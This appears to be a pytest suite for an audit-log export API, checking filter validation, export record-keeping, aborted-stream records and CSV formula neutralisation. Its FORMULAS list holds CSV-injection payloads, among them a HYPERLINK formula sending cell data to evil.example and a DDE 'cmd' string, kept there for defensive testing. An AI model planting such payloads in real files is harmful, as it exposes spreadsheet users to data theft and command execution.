"""Exports under attack: every export is on record before its first byte, whatever happens next.

Filters are the export's own record, so they are refused before anything is read when they are
not the catalog's bounded vocabulary; a consumer that hangs up leaves an ``aborted`` record.
"""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from api_harness import Api, running_api

from carelog.audit.context import audit_context
from carelog.audit.export import export_audit_logs
from carelog.audit.export_copy import restore_cell
from carelog.audit.filters import AuditFilters
from carelog.db.engine import Database
from carelog.db.session import Scopes


@pytest.fixture
async def api(fresh_db: Database, tmp_path: Path) -> AsyncIterator[Api]:
    async with running_api(fresh_db, tmp_path) as env:
        a = env.world.a
        for _ in range(5):
            env.execute(
                "insert into audit_logs (id, org_id, workos_user_id, actor_type, action, "
                "resource_type) values (:id, :org, :u, 'user', 'PROFILE_UPDATED', 'profile')",
                id=uuid.uuid4(),
                org=a.org_id,
                u=a.expert,
            )
        yield env


def owner(api: Api) -> dict[str, str]:
    return api.auth(api.world.a.owner, api.world.a.org_id)


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ([("action", f"PROFILE_UPDATED{i}") for i in range(3)], "actions"),
        ([("action", "A" * 40 + str(i)) for i in range(400)], "actions"),
        ([("resource_type", f"t{i}") for i in range(60)], "resource_types"),
        (
            [("action", "PROFILE_UPDATED")] * 2 + [("resource_type", "no_such_type")],
            "resource_types",
        ),
    ],
)
async def test_bad_export_filters_are_refused_before_anything_is_read(
    api: Api, params: list[tuple[str, str]], field: str, attack_count: Any
) -> None:
    exports = "select id from audit_log_exports where org_id = :o"
    before = api.rows(exports, o=api.world.a.org_id)
    r = await api.client.get(
        "/api/audit/export", params=[*params, ("format", "csv")], headers=owner(api)
    )
    assert r.status_code == 422, r.text[:200]
    assert r.json()["error"]["field"] == field
    assert api.rows(exports, o=api.world.a.org_id) == before
    assert api.audit("action like 'AUDIT_LOG_EXPORT%'") == []
    attack_count("input abuse: export filters", 1)


async def test_export_is_on_record_before_the_first_byte(api: Api) -> None:
    r = await api.client.get("/api/audit/export", params={"format": "jsonl"}, headers=owner(api))
    assert r.status_code == 200
    # The start is durable before anything is read: the export contains its own record.
    assert b"AUDIT_LOG_EXPORT_STARTED" in r.content
    actions = [e["action"] for e in api.audit("action like 'AUDIT_LOG_EXPORT%'")]
    assert actions == ["AUDIT_LOG_EXPORT_STARTED", "AUDIT_LOG_EXPORTED"]
    started = api.audit("action = 'AUDIT_LOG_EXPORT_STARTED'")[0]
    assert started["workos_user_id"] == api.world.a.owner
    assert started["metadata"]["format"] == "jsonl"


async def test_a_hang_up_mid_stream_leaves_an_aborted_record(api: Api, attack_count: Any) -> None:
    a = api.world.a
    scopes = Scopes(api.db)
    async with scopes.org_scope(a.owner, a.org_id) as session:
        with audit_context(actor_id=a.owner, org_id=a.org_id):
            chunks = export_audit_logs(
                session, a.org_id, a.owner, AuditFilters(), "jsonl", batch_size=2
            )
            first = await chunks.__anext__()
            assert first
            await chunks.aclose()  # the client went away after two rows
    for _ in range(100):
        if api.audit("action = 'AUDIT_LOG_EXPORT_ABORTED'"):
            break
        await asyncio.sleep(0.05)
    aborted = api.audit("action = 'AUDIT_LOG_EXPORT_ABORTED'")
    assert len(aborted) == 1 and aborted[0]["metadata"]["row_count"] == 2
    assert len(api.audit("action = 'AUDIT_LOG_EXPORT_STARTED'")) == 1
    assert api.audit("action = 'AUDIT_LOG_EXPORTED'") == []
    rows = api.rows(
        "select status, row_count from audit_log_exports where org_id = :o and status <> 'started'",
        o=a.org_id,
    )
    assert rows == [{"status": "aborted", "row_count": 2}]
    attack_count("trail integrity: export hang-up", 1)


FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
)


async def test_csv_export_neutralises_formulas_and_keeps_them_recoverable(
    api: Api, attack_count: Any
) -> None:
    """The attacker controls its User-Agent; an admin opens the CSV in a spreadsheet."""
    a = api.world.a
    for agent in FORMULAS:
        r = await api.client.get("/api/audit/events", headers={**owner(api), "User-Agent": agent})
        assert r.status_code == 200
    r = await api.client.get(
        "/api/audit/export",
        params={"format": "csv", "action": "AUDIT_LOG_QUERIED"},
        headers=owner(api),
    )
    assert r.status_code == 200
    cells = [row["user_agent"] for row in csv.DictReader(io.StringIO(r.text, newline=""))]
    assert len(cells) == len(FORMULAS)
    for cell in cells:
        assert cell.startswith("'"), cell
    assert sorted(restore_cell(c) for c in cells) == sorted(FORMULAS)
    assert a.org_id
    attack_count("input abuse: CSV formula injection", len(FORMULAS))
